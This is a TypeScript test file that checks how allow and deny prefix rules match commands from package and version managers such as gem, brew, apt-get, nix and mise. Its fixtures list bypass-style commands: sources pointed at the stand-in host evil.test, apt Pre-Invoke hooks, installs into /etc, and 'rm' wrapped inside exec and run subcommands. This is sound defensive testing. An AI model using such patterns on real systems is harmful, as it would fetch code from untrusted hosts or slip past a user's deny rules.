/**
 * Checks how rules read the commands of package and version managers.
 *
 * Managers are those of other languages and of systems; rules allow and deny.
 */
import { describeFamily, type RuleRows } from '../family.ts';

/** A prefix rule, and everyday commands that it covers. */
const COVERED: RuleRows = [
  ['bundle exec rspec:*', ['bundle exec rspec', 'bundle exec rspec spec/a_spec.rb']],
  ['bundle:*', ['bundle install', 'bundle list', 'bundle outdated', 'bundle check']],
];

/** A prefix rule, and commands beyond it: they execute, load, write or redirect. */
const NOT_COVERED: RuleRows = [
  ['composer:*', ['composer exec id', 'composer global require x', 'composer -d /tmp/e install']],
  [
    'bundle:*',
    [
      'bundle exec id',
      'bundle config set x y',
      'bundle plugin install e',
      'bundle install --gemfile=e',
      'bundle install --path /etc',
      'bundle console',
    ],
  ],
  ['bundle exec:*', ['bundle exec rspec']],
  ['bundle exec rspec:*', ['bundle exec rspec -r ./e', 'bundle exec --gemfile=e rspec']],
  [
    'gem:*',
    [
      'gem exec id',
      'gem install -s http://evil.test x',
      'gem install --source http://evil.test x',
      'gem sources -a http://evil.test',
      'gem install -i /etc x',
      'gem install --bindir /etc x',
    ],
  ],
  [
    'brew:*',
    [
      'brew sh',
      'brew ruby -e x',
      'brew tap a/b http://evil.test',
      'brew services start x',
      'brew edit x',
      'brew bundle exec id',
    ],
  ],
  [
    'apt-get:*',
    [
      'apt-get -o APT::Update::Pre-Invoke::=id update',
      'apt-get install -o DPkg::Pre-Invoke::=id x',
      'apt-get install -oDPkg::Pre-Invoke::=id x',
      'apt-get -c e.conf update',
    ],
  ],
  ['apt:*', ['apt edit-sources']],
  [
    'dnf:*',
    ['dnf --installroot=/x install y', 'dnf --setopt=x=y install z', 'dnf --repofrompath=x,http://evil.test install y'],
  ],
  ['apk:*', ['apk --root /x add y', 'apk add -X http://evil.test y', 'apk --repository http://evil.test add y']],
  ['pacman:*', ['pacman --hookdir d -S x', 'pacman -b d -S x', 'pacman -r d -S x', 'pacman -U http://evil.test/x']],
  ['yum:*', ['yum --setopt=x=y install z']],
  ['zypper:*', ['zypper --root /x in y']],
  ['rustup:*', ['rustup run nightly id', 'rustup toolchain link x /tmp/e']],
  ['mise:*', ['mise exec -- id', 'mise run x', 'mise use x']],
  ['devbox:*', ['devbox run id']],
  ['nix:*', ['nix run nixpkgs#x', 'nix develop -c id', 'nix build']],
  ['nix-shell:*', ['nix-shell -p x --run id']],
];

/** A denied prefix, and commands that run it. */
const DENIED: RuleRows = [
  [
    'rm:*',
    [
      'gem exec rm x',
      'rustup run nightly rm x',
      'rustup run --install nightly rm x',
      'rbenv exec rm x',
      'asdf exec rm x',
      'mise exec -- rm x',
      'mise x node@20 -- rm x',
      'mise exec -c "rm x"',
      'mise exec --command="rm x"',
      'devbox run -- rm x',
      'devbox run "rm x"',
      'bundle exec rm x',
      'composer exec rm x',
      'composer exec -- rm x',
      'nix run nixpkgs#x -- rm x',
      'nix develop -c rm x',
      'nix shell nixpkgs#x --command rm x',
      'nix-shell -p x --run "rm x"',
      'nix-shell --command "rm x"',
      'nix-shell --run="rm x"',
      'opam exec -- rm x',
      'guix shell a -- rm x',
    ],
  ],
  [
    'apt-get install:*',
    ['apt-get -y install x', 'apt-get -o A=b install x', 'apt-get -t stable install x', 'apt-get -qq -y install x'],
  ],
  ['brew uninstall:*', ['brew -v uninstall x']],
  ['bundle install:*', ['bundle --verbose install']],
  ['gem push:*', ['gem --quiet push']],
  ['composer require:*', ['composer -d x require a', 'composer global require a']],
  ['dnf install:*', ['dnf -y install x']],
];

describeFamily({ covered: COVERED, notCovered: NOT_COVERED, denied: DENIED });
